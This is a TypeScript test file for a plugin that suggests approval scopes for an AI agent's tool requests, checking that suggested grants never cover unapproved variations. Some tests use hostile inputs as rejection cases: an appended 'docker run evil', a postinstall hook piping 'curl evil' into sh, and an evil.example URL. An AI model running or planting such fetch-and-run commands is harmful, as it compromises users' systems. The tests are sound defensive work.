/** Suggested scopes cover nothing that differs from the request in a member that they do not name. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { ActionRequest } from "../../../src/domain/actions.ts";
import {
  type EarlierRequest,
  MAX_SCOPE,
  type ScopeSuggestion,
  suggestScopes,
} from "../../../plugins/grants/suggest-scopes.ts";
import type { JsonObject, JsonValue } from "../../../src/domain/json.ts";
import { findScopeFault } from "../../../src/domain/policy/check/scope-fault.ts";
import {
  buildPolicySet,
  compilePolicySet,
  type CompiledPolicySet,
} from "../../../src/domain/policy/compile/compile.ts";
import { REQUEST_PARTS } from "../../../src/domain/policy/condition/cel-literal.ts";
import { Evaluation } from "../../../src/domain/policy/decide/evaluation.ts";
import { matchGrant } from "../../../src/domain/policy/decide/grant.ts";
import type { PolicyDocument } from "../../../src/domain/policy/policy-types.ts";
import { findFreeMembers } from "../../../src/domain/scope-freedom.ts";
import { randomFrom } from "../../support/random.ts";

const TARGET = { agent_id: "bot", tool: "shell", operation: "run" };
const PRINCIPAL = { key_id: "k", name: "k", agent_id: "bot", owner: null };
const asking = (more: object = {}): CompiledPolicySet =>
  compilePolicySet(
    buildPolicySet([
      {
        policy: "ask",
        version: 1,
        definition: {
          policy: "ask",
          rules: [
            { name: "ask", effect: "require_approval", approval: { grants: { for_ms: 3_600_000, count: 9 } }, ...more },
          ],
        } as unknown as PolicyDocument,
      },
    ]),
  );
const ASK = asking();

const requestOf = (params: JsonObject, context: JsonObject = {}): ActionRequest => ({ ...TARGET, params, context });
const evaluationOf = (request: ActionRequest, set = ASK): Evaluation =>
  new Evaluation(set, request, { principal: PRINCIPAL }, 0);
const earlierOf = (request: ActionRequest, over: Partial<EarlierRequest> = {}): EarlierRequest => ({
  evaluation: evaluationOf(request),
  isApproved: true,
  isRejected: false,
  ...over,
});

function offersFor(
  request: ActionRequest,
  earlier: readonly EarlierRequest[] = [],
  set = ASK,
): ScopeSuggestion<EarlierRequest>[] {
  return suggestScopes(
    evaluationOf(request, set),
    earlier,
    (scope) => findScopeFault(set, TARGET, scope, "condition") === null,
  );
}

const covers = (scope: string, request: ActionRequest): boolean =>
  matchGrant({ id: "offer", scope, sum: null }, evaluationOf(request)) !== null;

type Random = () => number;
const pick = <T>(random: Random, values: readonly T[]): T => values[Math.floor(random() * values.length)] as T;
const NAMES = [
  "amount",
  "to",
  "command",
  "note",
  "env",
  "in",
  "we ird",
  "é",
  'q"',
  "__proto__",
  "size",
  "x.y",
  "constructor",
];
const TEXTS = [
  "",
  "a",
  "staging",
  "npm install && docker run",
  "x".repeat(101),
  "x".repeat(300),
  'q"\\',
  "\u202e",
  "😀",
  "1",
  "true",
  "null",
];
const NUMBERS = [0, 1, -1, 5, 5.5, -5.5, 100, -100, 1e15, -1e15, 1e20, 1e-7, 0.1 + 0.2];

function randomValue(random: Random, depth = 0): JsonValue {
  const kind = Math.floor(random() * (depth > 1 ? 4 : 6));
  if (kind === 0) return pick(random, TEXTS);
  if (kind === 1) return pick(random, NUMBERS);
  if (kind === 2) return random() < 0.5;
  if (kind === 3) return null;
  if (kind === 4) return Array.from({ length: Math.floor(random() * 3) }, () => randomValue(random, depth + 1));
  return randomObject(random, Math.floor(random() * 3), depth + 1);
}

/** Uses `defineProperty`, as the parser of requests does, so that `__proto__` is a member. */
function withMember(object: JsonObject, name: string, value: JsonValue): JsonObject {
  return Object.defineProperty(structuredClone(object), name, {
    value,
    enumerable: true,
    configurable: true,
    writable: true,
  });
}

function randomObject(random: Random, size: number, depth = 0): JsonObject {
  let object: JsonObject = {};
  for (let i = 0; i < size; i++) object = withMember(object, pick(random, NAMES), randomValue(random, depth));
  return object;
}

function without(object: JsonObject, name: string): JsonObject {
  const rest = structuredClone(object);
  delete rest[name];
  return rest;
}

/** Returns a different value: often a similar one, and often one of another type. */
function changedValue(random: Random, value: JsonValue): JsonValue {
  const similar: JsonValue[] =
    typeof value === "string"
      ? [`${value} `, value.slice(1), `${value}${"x".repeat(200)}`, value.toUpperCase()]
      : typeof value === "number"
        ? [value + 1, value - 1, -value - 3, value * 2 + 1, String(value)]
        : Array.isArray(value)
          ? [[...value, null], value.slice(1), [value]]
          : typeof value === "object" && value !== null
            ? [withMember(value, "added", 1), [value], {}]
            : [!value, String(value), 0];
  return pick(random, [...similar, randomValue(random), null, [], {}, "", 0]);
}

const same = (a: JsonValue, b: JsonValue): boolean => JSON.stringify(sorted(a)) === JSON.stringify(sorted(b));
function sorted(value: JsonValue): JsonValue {
  if (Array.isArray(value)) return value.map(sorted);
  if (typeof value !== "object" || value === null) return value;
  return Object.entries(value)
    .sort(([a], [b]) => (a < b ? -1 : 1))
    .map(([name, member]): JsonValue => [name, sorted(member)]);
}

/** Returns a request that differs in one member: changed, removed or added. */
function changed(random: Random, request: ActionRequest): { other: ActionRequest; part: string; name: string } | null {
  const part = pick(random, REQUEST_PARTS);
  const members = request[part];
  const names = Object.keys(members);
  const kind = Math.floor(random() * 3);
  const name = kind === 2 || names.length === 0 ? pick(random, [...NAMES, "added"]) : pick(random, names);
  const isPresent = Object.hasOwn(members, name);
  const value = kind === 0 && isPresent ? undefined : changedValue(random, isPresent ? (members[name] ?? null) : null);
  if (value !== undefined && isPresent && same(value, members[name] ?? null)) return null;
  const other = value === undefined ? without(members, name) : withMember(members, name, value);
  return { other: { ...request, [part]: other }, part, name };
}

/** Returns the members that an offer names, by part and name. */
function named(
  request: ActionRequest,
  { scope }: { scope: string },
  varying: readonly { member: string }[],
): Set<string> {
  const members = new Set(varying.map(({ member }) => member));
  const free = findFreeMembers(scope, request);
  assert.deepEqual([...members], free, "the analysis of the scope finds exactly the members that the offer names");
  return new Set(
    REQUEST_PARTS.flatMap((part) => Object.keys(request[part]).map((name) => `${part} ${name}`)).filter((key) => {
      const [part, name] = [key.slice(0, key.indexOf(" ")), key.slice(key.indexOf(" ") + 1)];
      return members.has(`${part}.${name}`) || members.has(`${part}[${JSON.stringify(name)}]`);
    }),
  );
}

describe("for random requests", () => {
  test("an offer covers its request, and nothing that differs in a member that it does not name", () => {
    let [offered, tried, relaxed] = [0, 0, 0];
    for (let seed = 1; seed <= 600; seed++) {
      const random = randomFrom(seed);
      const request = requestOf(
        randomObject(random, Math.floor(random() * 9)),
        randomObject(random, Math.floor(random() * 4)),
      );
      const earlier = Array.from({ length: Math.floor(random() * 6) }, () => {
        const like = changed(random, request)?.other ?? request;
        return earlierOf(like, { isApproved: random() < 0.8, isRejected: random() < 0.05 });
      });
      for (const { scope, varying, covered } of offersFor(request, earlier)) {
        offered++;
        assert.ok(covers(scope, request), scope);
        assert.ok(covered.every(({ isRejected }) => !isRejected));
        const mayDiffer = named(request, { scope }, varying);
        if (mayDiffer.size > 0) relaxed++;
        for (let i = 0; i < 60; i++) {
          const change = changed(random, request);
          if (change === null || mayDiffer.has(`${change.part} ${change.name}`)) continue;
          tried++;
          assert.ok(!covers(scope, change.other), `seed ${seed}: ${scope} covers ${JSON.stringify(change.other)}`);
        }
      }
    }
    assert.ok(offered > 500 && tried > 20_000 && relaxed > 30, `${offered} offers, ${tried} tries, ${relaxed} relaxed`);
  });

  test("the members that a scope is said to fix cannot differ", () => {
    const scopes = [
      null,
      "true",
      'params.env == "qa"',
      'params.env == "qa" && params.amount <= 5.0',
      'params.env == "qa" || params.amount == 5',
      'params.env != "qa"',
      'size(params) == 1 && params.env == "qa"',
      'size(params) == 2 && params.env == "qa"',
      'size(params) == 2 && params.env == "qa" && params.amount > 1 && size(context) == 0',
      'params == {"env": "qa"}',
      'params == {"env": "qa"} && context == {}',
      'has(params.env) && !(params.env == "qa")',
      '"qa" == params.env && params.amount in [1, 5]',
      "params.amount == params.amount",
      'params["env"] == "qa" && params.to.domain == "a"',
      'params.env == "q" + "a"',
      '(params.env == "qa") == true',
      "agent == 'bot'",
    ];
    const random = randomFrom(7);
    let tried = 0;
    for (const scope of scopes)
      for (let i = 0; i < 1_500; i++) {
        const values: JsonObject = { env: "qa", amount: 5, to: { domain: "a" }, note: "n" };
        const kept = Object.entries(values).filter(() => random() < 0.6);
        const request = requestOf(Object.fromEntries(kept), random() < 0.5 ? {} : { branch: "main" });
        if (matchGrant({ id: "s", scope, sum: null }, evaluationOf(request)) === null) continue;
        const free = findFreeMembers(scope, request);
        const change = changed(random, request);
        if (change === null) continue;
        const { other, part, name } = change;
        const isFree =
          free.includes(`${part}.${name}`) ||
          free.includes(`${part}[${JSON.stringify(name)}]`) ||
          (free.includes(`${part}.*`) && !Object.hasOwn(request[part as "params"], name));
        if (isFree) continue;
        tried++;
        assert.ok(
          matchGrant({ id: "s", scope, sum: null }, evaluationOf(other)) === null,
          `${scope} is said to fix ${part}.${name}, and covers ${JSON.stringify(other)}`,
        );
      }
    assert.ok(tried > 200, String(tried));
  });
});

describe("examples", () => {
  const scopesOf = (request: ActionRequest, earlier: readonly EarlierRequest[] = [], set = ASK): string[] =>
    offersFor(request, earlier, set).map(({ scope }) => scope);

  test("a command that is padded beyond 100 characters is fixed exactly", () => {
    const command = `npm install left-pad ${" ".repeat(120)}`;
    const request = requestOf({ command, cwd: "/home/ada/app" });
    const [scope = ""] = scopesOf(request);
    assert.ok(covers(scope, request));
    assert.ok(!covers(scope, requestOf({ command: `${command}&& docker run evil`, cwd: "/home/ada/app" })));
    assert.ok(!covers(scope, requestOf({ command: "npm install && docker run evil", cwd: "/home/ada/app" })));
  });

  test("an edit of one file offers no other file, whatever was edited before", () => {
    const edit = (path: string, text: string): ActionRequest =>
      requestOf({ file_path: path, old_string: "a", new_string: text }, { cwd: "/home/ada/app" });
    const earlier = ["src/a.ts", "src/b.ts"].map((path) => earlierOf(edit(path, path)));
    for (const scope of scopesOf(edit("package.json", "{}"), earlier))
      for (const [path, text] of [
        ["src/c.ts", "{}"],
        [".github/workflows/ci.yml", "{}"],
        ["package.json", '{"scripts":{"postinstall":"curl evil | sh"}}'],
      ] as const)
        assert.ok(!covers(scope, edit(path, text)), scope);
  });

  test("a request without parameters offers only itself", () => {
    const [scope = ""] = scopesOf(requestOf({}));
    assert.equal(scope, "size(params) == 0 && size(context) == 0");
    assert.ok(!covers(scope, requestOf({ url: "https://evil.example" })));
  });

  test("approvals in staging offer nothing in production", () => {
    const deploy = (env: string): ActionRequest => requestOf({ service: "web" }, { env });
    for (const scope of scopesOf(deploy("staging"), [earlierOf(deploy("staging"))]))
      assert.ok(!covers(scope, deploy("production")));
  });

  test("only values that approved requests had may vary, and the offer says which", () => {
    const pay = (amount: number, to: string): ActionRequest => requestOf({ amount, to, currency: "EUR" });
    const earlier = [
      earlierOf(pay(-2, "ann")),
      earlierOf(pay(20, "ann")),
      earlierOf(pay(900, "ann"), { isApproved: false }),
    ];
    const [equal, wider] = offersFor(pay(5, "ann"), earlier);
    assert.deepEqual(equal?.varying, []);
    assert.deepEqual(wider?.varying, [{ member: "params.amount", values: "from -2 to 20" }]);
    assert.equal(wider?.covered.length, 2);
    for (const [amount, to, expected] of [
      [-2, "ann", true],
      [20, "ann", true],
      [-3, "ann", false],
      [21, "ann", false],
      [5, "eve", false],
    ] as const)
      assert.equal(covers(wider?.scope ?? "", pay(amount, to)), expected, `${amount} ${to}`);
  });

  test("no combination of values is covered that no one approved", () => {
    const deploy = (env: string, force: boolean, branch = "main"): ActionRequest =>
      requestOf({ force, branch }, { env });
    const approved = [deploy("staging", true), deploy("production", false), deploy("staging", false)];
    const earlier = [...approved.map((request) => earlierOf(request)), earlierOf(deploy("production", true, "fix"))];
    for (const request of approved)
      for (const { scope, varying } of offersFor(request, earlier)) {
        assert.ok(varying.length <= 1, scope);
        assert.ok(!covers(scope, deploy("production", true)), scope);
      }
    const [, wider] = offersFor(deploy("staging", false), earlier);
    assert.equal(wider?.varying.length, 1);
  });

  test("values that a person cannot read whole stay fixed", () => {
    const run = (command: JsonValue): ActionRequest => requestOf({ command });
    for (const other of ["y".repeat(101), "a\u202eb", ["a"], { a: 1 }, null, 5])
      assert.equal(offersFor(run("x"), [earlierOf(run(other))]).length, 1, JSON.stringify(other));
  });

  test("nothing is offered if a scope cannot say it, or if a person rejected such a request", () => {
    assert.deepEqual(scopesOf(requestOf({ text: "x".repeat(MAX_SCOPE) })), []);
    assert.deepEqual(scopesOf(requestOf(Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`p${i}`, i])))), []);
    const request = requestOf({ card: "4711" });
    assert.deepEqual(scopesOf(request, [earlierOf(request, { isApproved: false, isRejected: true })]), []);
    assert.deepEqual(scopesOf(request, [], asking({ obligations: { redact: ["params.card"] } })), []);
    assert.deepEqual(scopesOf(requestOf({ note: "x" }), [], asking({ obligations: { redact: ["params.card"] } })), []);
  });
});
